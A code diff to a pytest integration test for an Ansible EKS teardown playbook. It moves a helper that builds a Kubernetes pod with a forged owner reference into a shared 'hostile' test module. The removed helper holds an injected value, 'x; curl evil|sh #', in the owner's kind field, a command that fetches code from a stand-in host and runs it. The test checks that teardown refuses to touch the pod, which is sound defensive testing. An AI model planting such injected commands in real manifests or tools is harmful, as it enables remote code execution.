@@ -11,6 +11,7 @@ import typing as t
 from pathlib import Path
 
 import pytest
+from ansible_collections.enbuild.eks.tests.integration import hostile
 from ansible_collections.enbuild.eks.tests.integration.guide import associations
 from ansible_collections.enbuild.eks.tests.integration.shop import LISTING, TRUST, Shop, policy
 from ansible_collections.enbuild.eks.tests.lab.labs import Lab
@@ -68,18 +69,6 @@ def account(shop: Shop) -> t.Iterator[Account]:
     shop.lab.reset()
 
 
-def hiding_pod() -> dict[str, t.Any]:
-    """A pod that says that somebody else owns it."""
-    owner = {"apiVersion": "v1", "kind": "x; curl evil|sh #", "name": "evil", "uid": "evil", "controller": True}
-    containers = [{"name": "main", "image": "registry.example.com/app"}]
-    return {
-        "apiVersion": "v1",
-        "kind": "Pod",
-        "metadata": {"name": "hiding", "ownerReferences": [owner]},
-        "spec": {"serviceAccountName": "orders", "terminationGracePeriodSeconds": 0, "containers": containers},
-    }
-
-
 def teardown(lab: Lab, *arguments: str, **variables: t.Any) -> PlaybookRun:
     environment = {**lab.environment(), "ANSIBLE_SHOW_CUSTOM_STATS": "true"}
     return run_playbook(["enbuild.eks.teardown", "-e", json.dumps(variables), *arguments], environment)
@@ -124,7 +113,7 @@ def test_what_was_made_here_goes_and_nothing_else(account: Account, shop: Shop) 
 
     # What a namespace's owner writes: half a release, and an owner that is a command.
     shop.kubectl("annotate", "deployment/orders", "meta.helm.sh/release-name=enbuild")
-    shop.kubectl("apply", "-f", "-", given=json.dumps(hiding_pod()))
+    shop.kubectl("apply", "-f", "-", given=json.dumps(hostile.hiding_pod("hiding", "orders")))
     shop.kubectl("wait", "--for=condition=Ready", "pod/hiding", "--timeout=60s")
     refused = teardown(lab, **given)
     assert refused.changed == []
